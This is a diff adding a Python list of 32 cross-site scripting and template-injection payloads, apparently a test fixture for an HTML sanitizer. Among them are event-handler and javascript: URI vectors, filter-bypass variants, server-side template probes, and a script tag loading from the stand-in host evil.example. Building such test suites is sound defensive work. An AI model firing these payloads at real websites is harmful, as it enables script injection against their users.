@@ -1,0 +1,38 @@
+"""Classic injection payloads. Each one, if it ever ran, would call ``__xss(n)`` or open a dialog."""
+
+from __future__ import annotations
+
+PAYLOADS: list[str] = [
+    "<script>__xss(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=__xss(3)>",
+    '"><img src=x onerror=__xss(4)>',
+    "'><svg onload=__xss(5)>",
+    "<svg><script>__xss(6)</script></svg>",
+    "<svg/onload=__xss(7)>",
+    "<body onload=__xss(8)>",
+    '<iframe src="javascript:__xss(9)"></iframe>',
+    "javascript:__xss(10)",
+    "JaVaScRiPt:alert(11)",
+    " javascript:__xss(12)",
+    '" onmouseover="__xss(13)" x="',
+    "' onfocus='__xss(14)' autofocus='",
+    '<a href="javascript:__xss(15)">click</a>',
+    "<details open ontoggle=__xss(16)>",
+    "<input autofocus onfocus=__xss(17)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(18)>",
+    "</textarea><script>__xss(19)</script>",
+    "</title><script>__xss(20)</script>",
+    "<style>@import 'javascript:__xss(21)';</style>",
+    '<object data="javascript:__xss(22)"></object>',
+    '<embed src="javascript:__xss(23)">',
+    "{{7*7}}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "${7*7}<%= 7*7 %>",
+    "<scr<script>ipt>__xss(27)</scr</script>ipt>",
+    "data:text/html;base64,PHNjcmlwdD5fX3hzcygyOCk8L3NjcmlwdD4=",
+    '<video><source onerror="__xss(29)"></video>',
+    '<div style="background:url(javascript:__xss(30))">x</div>',
+    "&lt;script&gt;__xss(31)&lt;/script&gt;",
+    "<marquee onstart=__xss(32)>",
+]
